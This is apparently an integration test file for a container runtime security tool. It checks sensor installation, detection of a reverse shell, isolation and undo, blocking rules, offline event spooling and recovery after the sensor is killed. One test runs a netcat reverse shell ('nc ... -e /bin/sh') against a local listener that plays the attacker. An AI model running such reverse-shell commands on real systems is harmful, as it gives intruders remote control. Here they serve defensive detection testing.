import { execFileSync } from "node:child_process";
import { createServer, type Server } from "node:net";
import { temporaryDirectory } from "@bulwark/image/testing";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bulwark } from "./support/cli.ts";
import { type Containerd, openContainerd, whyNoContainerd } from "./support/containerd.ts";
import { type ServerUnderTest, startTestServer, until } from "./support/running-server.ts";
import { SENSOR, whyNoSensor } from "./support/sensor-process.ts";

const why = whyNoSensor() || whyNoContainerd();
if (why !== "") console.warn(`no container is attacked under a whole installation: ${why}`);

const SCOPES = ["runtime:read", "runtime:write", "alerts:read", "alerts:write", "responses:read", "responses:write"];
const ADMIN = ["responses:approve", "admin:read", "admin:write"];

interface Listed<Item> {
  readonly items: readonly Item[];
}
interface Alert {
  readonly id: number;
  readonly rule: string;
  readonly containerName: string;
  readonly blocked: boolean;
  readonly count: number;
}

describe.skipIf(why !== "")("a node with a sensor", () => {
  const directory = temporaryDirectory();
  const at = (name: string) => `${directory.path}/${name}`;
  const prefix = at("node");
  const marker = `t${process.pid}`;
  let containerd: Containerd;
  let server: ServerUnderTest;
  let environment: Record<string, string>;
  let attacker: Server;
  let port: number;
  /** What the attacker types into a shell that calls home, and what came back. */
  let heard = "";

  const cli = (...words: string[]) => bulwark(at("cache"), words, environment);
  const install = () =>
    cli("sensor", "install", "--prefix", prefix, "--program", SENSOR, "--gateway", server.running.gateway);
  const alerts = async (query: string) => (await server.call<Listed<Alert>>("GET", `/alerts?${query}`)).items;
  const startServer = (gateway: number) =>
    startTestServer(at("data"), {
      roles: new Set(["api", "gateway", "worker"]),
      gateway: { host: "127.0.0.1", port: gateway },
    });
  const connected = () =>
    until("a connected node", async () => {
      const { items } = await server.call<Listed<{ connectedAt: string | null }>>("GET", "/nodes");
      return items.some(({ connectedAt }) => connectedAt !== null);
    });

  beforeAll(async () => {
    containerd = await openContainerd(directory.path);
    await containerd.load("docker.io/library/shop:1");
    server = await startServer(0);
    const { token } = await server.call<{ token: string }>("POST", "/tokens", {
      name: "cli",
      scopes: [...SCOPES, ...ADMIN],
    });
    environment = { BULWARK_SERVER: server.url, BULWARK_TOKEN: token };
    attacker = createServer((socket) => {
      socket.on("data", (data) => {
        heard += data;
      });
      socket.on("error", () => {});
      socket.write("id\n");
    });
    await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
    port = (attacker.address() as { port: number }).port;
  });
  afterAll(async () => {
    if (environment !== undefined) await cli("sensor", "uninstall", "--prefix", prefix);
    for (const name of ["shop", "busy", "guarded"]) await containerd?.remove(`${marker}-${name}`);
    attacker?.close();
    await server?.close();
    await containerd?.close();
    directory.remove();
  });

  test("is installed by one command, and tells of its containers and ports", async () => {
    const installed = await install();
    expect(installed).toMatchObject({ status: 0, stderr: expect.not.stringContaining("rror") });
    await connected();
    await containerd.start("docker.io/library/shop:1", `${marker}-shop`);
    const container = await until("the container", async () => {
      const { items } = await server.call<Listed<Record<string, unknown>>>("GET", `/containers?text=${marker}-shop`);
      return items[0];
    });
    expect(container).toMatchObject({
      image: "docker.io/library/shop:1",
      runtime: "containerd",
      state: "running",
      privileged: false,
    });
    expect(container.imageDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const ports = await until("its ports", async () => {
      const { items } = await server.call<Listed<{ port: number }>>("GET", "/listeners?limit=500");
      return items.length > 0 && items;
    });
    expect(ports.map((each) => each.port)).toContain(Number(new URL(server.url).port));
    expect((await cli("sensor", "status", "--prefix", prefix)).stdout).toContain("runs as process");
  });

  test("sees a reverse shell, tells its story, isolates the container and gives its network back", async () => {
    const name = `${marker}-shop`;
    const shell = containerd.exec(name, `nc 127.0.0.1 ${port} -e /bin/sh`);
    const alert = await until("the alert", async () => {
      const found = await alerts("severities=critical,high&states=open");
      return found.find(({ containerName, rule }) => containerName === name && /shell|socket/i.test(rule));
    });
    await until("the attacker's answer", async () => heard.includes("uid=0"));
    const shown = await cli("alert", "show", String(alert.id));
    expect(shown.stdout).toContain("T1059");
    expect(shown.stdout).toContain(name);
    const story = await cli("alert", "story", String(alert.id));
    expect(story.stdout).toContain(alert.rule);
    const isolated = await cli("respond", "isolate", "--alert", String(alert.id), "--reason", "reverse shell");
    expect(isolated).toMatchObject({ status: 0, stdout: expect.stringContaining("isolate is done") });
    await expect(containerd.exec(name, `echo x | nc -w 1 127.0.0.1 ${port}`)).resolves.toMatch(/exit [^0]/);
    const id = /response (\d+)/.exec(isolated.stdout)?.[1] ?? "";
    expect((await cli("respond", "undo", id)).stdout).toContain("restore-network is done");
    const before = heard.length;
    void containerd.exec(name, `echo back | nc -w 1 127.0.0.1 ${port}`);
    await until("the network", async () => heard.slice(before).includes("back"));
    const killed = await cli("respond", "kill-process", "--alert", String(alert.id));
    expect(killed.stdout).toMatch(/kill-process is (?:done|unchanged)/);
    await shell;
    const { items } = await server.call<
      Listed<{ action: string; state: string; evidence: readonly { sizeBytes: number }[] }>
    >("GET", `/responses?alertId=${alert.id}`);
    const evidence = items.find(({ action }) => action === "collect-evidence");
    expect(evidence).toMatchObject({ state: "done" });
    expect(evidence?.evidence.length).toBeGreaterThan(3);
  });

  test("kills what a blocking rule forbids before it does anything, and leaves the rest alone", async () => {
    const name = `${marker}-guarded`;
    const rules = `- rule: Touch forbidden\n  desc: test\n  condition: evt.type = execve and container.id != host and proc.name = touch\n  output: touch\n  priority: CRITICAL\n  tags: [T1059]\n`;
    await server.call("PUT", "/rule-files", { name: "forbidden.yaml", content: rules });
    await server.call("PUT", "/runtime-rules/modes", {
      rule: "Touch forbidden",
      mode: "block",
      scope: { host: false, containerNames: [name] },
    });
    const { items: nodes } = await server.call<Listed<{ id: number; policyRevision: number }>>("GET", "/nodes");
    await containerd.start("docker.io/library/shop:1", name);
    await until("the block", async () => {
      await containerd.exec(name, "rm -f /tmp/made; /bin/touch /tmp/made");
      return (await containerd.exec(name, "ls /tmp/made")).includes("No such file");
    });
    const alert = await until("the alert", async () => (await alerts("text=touch")).find(({ blocked }) => blocked));
    expect(alert).toMatchObject({ rule: "Touch forbidden", containerName: name });
    // The neighbour may still do it.
    expect(await containerd.exec(`${marker}-shop`, "/bin/touch /tmp/made && ls /tmp/made")).toContain("/tmp/made");
    expect(nodes.length).toBe(1);
  });

  test("spools while the server is away, and loses nothing", async () => {
    const name = `${marker}-busy`;
    await containerd.start("docker.io/library/shop:1", name);
    const { port: gateway } = new URL(`https://${server.running.gateway}`);
    const since = new Date().toISOString();
    await server.close();
    await containerd.exec(
      name,
      "for i in 1 2 3 4 5 6 7 8 9 10; do for j in 1 2 3 4 5 6 7 8 9 10; do /bin/true; done; done",
    );
    server = await startServer(Number(gateway));
    environment = { ...environment, BULWARK_SERVER: server.url };
    await connected();
    const counted = await until("all hundred", async () => {
      const query = `since=${encodeURIComponent(since)}&types=execve&text=${encodeURIComponent("/bin/true")}&limit=500`;
      const { items } = await server.call<Listed<{ count: number; name: string; containerName: string }>>(
        "GET",
        `/runtime-events?${query}`,
      );
      const sum = items
        .filter((each) => each.containerName === name && each.name === "true")
        .reduce((total, each) => total + each.count, 0);
      return sum >= 100 && sum;
    });
    expect(counted).toBe(100);
  });

  test("is noticed when somebody kills its sensor, and comes back where it was", async () => {
    const pid = Number(execFileSync("cat", [`${prefix}/run/bulwark-sensor.pid`]));
    process.kill(pid, "SIGKILL");
    await until("a node that is gone", async () => {
      const { items } = await server.call<Listed<{ connectedAt: string | null }>>("GET", "/nodes");
      return items.every(({ connectedAt }) => connectedAt === null);
    });
    expect((await cli("sensor", "status", "--prefix", prefix)).status).toBe(1);
    expect(await install()).toMatchObject({ status: 0 });
    await connected();
  });
});
